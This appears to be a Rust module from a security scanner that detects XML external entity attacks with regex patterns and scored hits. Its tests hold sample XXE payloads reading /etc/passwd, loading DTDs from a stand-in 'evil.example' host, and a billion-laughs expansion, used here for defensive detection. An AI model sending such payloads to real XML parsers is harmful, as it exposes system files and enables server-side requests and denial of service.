//! XML that defines or loads entities.

use std::sync::LazyLock;

use regex::bytes::Regex;

use super::{Detector, Hit, Subject, Tokens};
use crate::catalogue::DetectorInfo;
use crate::pattern;

pub(super) const DETECTOR: Detector = Detector { info: &INFO, wants, look };

const INFO: DetectorInfo = DetectorInfo {
    name: "xxe",
    what: "an XML document that declares entities, loads an external DTD or includes a file",
    why: "a careless XML parser reads local files, calls other servers or runs out of memory",
    example: "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>",
};

static ENTITY: LazyLock<Regex> =
    LazyLock::new(|| pattern(r#"(?is)<!ENTITY\s+(?:%\s*)?[\w:.-]+\s+(?:SYSTEM|PUBLIC)\b"#));
static INTERNAL: LazyLock<Regex> = LazyLock::new(|| pattern(r#"(?is)<!ENTITY\s+(?:%\s*)?[\w:.-]+\s+["']"#));
static DOCTYPE: LazyLock<Regex> = LazyLock::new(|| {
    pattern(r#"(?is)<!DOCTYPE\s+[\w:.-]+\s+(?:SYSTEM\s*["']|PUBLIC\s*["'][^"']*["']\s*["'])([^"']*)"#)
});
static INCLUDE: LazyLock<Regex> =
    LazyLock::new(|| pattern(r"(?i)<\w*:?include\b[^>]*\bhref\s*=|w3\.org/2001/XInclude"));

static ATTLIST: LazyLock<Regex> = LazyLock::new(|| pattern(r"(?i)<!ATTLIST\s+\S"));
static SHEET: LazyLock<Regex> =
    LazyLock::new(|| pattern(r#"(?i)<\?xml-stylesheet\b[^>]*\bhref\s*=\s*["'](?:https?|ftp|file):"#));

fn wants(subject: &Subject<'_>) -> bool {
    subject.tokens.any(Tokens::ENTITY)
}

fn look(subject: &Subject<'_>) -> Option<Hit> {
    if let Some(found) = ENTITY.find(subject.bytes) {
        return Some(Hit::at(&found, 0.95, "external entity"));
    }
    if let Some(found) = INTERNAL.find(subject.bytes) {
        return Some(Hit::at(&found, 0.85, "entity declaration"));
    }
    if let Some(found) = ATTLIST.find(subject.bytes) {
        return Some(Hit::at(&found, 0.84, "attributes that a document gives itself"));
    }
    if let Some(found) = INCLUDE.find(subject.bytes) {
        return Some(Hit::at(&found, 0.85, "XML inclusion"));
    }
    if let Some(found) = SHEET.find(subject.bytes) {
        return Some(Hit::at(&found, 0.82, "style sheet of another server"));
    }
    let captures = DOCTYPE.captures(subject.bytes)?;
    let (whole, address) = (captures.get(0)?, captures.get(1)?);
    // The DTDs of HTML, SVG and the like are named in ordinary documents.
    if memchr::memmem::find(address.as_bytes(), b"www.w3.org/").is_some() {
        return None;
    }
    Some(Hit::at(&whole, 0.85, "external DTD"))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detect::Kind;
    use crate::detect::examples::{must_fire, must_not_fire};

    #[test]
    fn entities_and_inclusions_are_found() {
        must_fire(
            &DETECTOR,
            Kind::Text,
            &[
                "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><r>&x;</r>",
                "<!DOCTYPE r [<!ENTITY % p SYSTEM \"http://evil.example/p.dtd\"> %p;]>",
                "<!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol1 \"&lol;&lol;\">]>",
                "<!DOCTYPE r SYSTEM \"http://evil.example/x.dtd\"><r/>",
                "<foo xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/passwd\"/></foo>",
            ],
        );
    }

    #[test]
    fn ordinary_documents_are_let_pass() {
        must_not_fire(
            &DETECTOR,
            Kind::Text,
            &[
                "<!DOCTYPE html><html></html>",
                "<!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd\">",
                "<?xml version=\"1.0\"?><order id=\"1\"><![CDATA[a < b]]></order>",
                "<!-- a comment --><a/>",
            ],
        );
    }
}
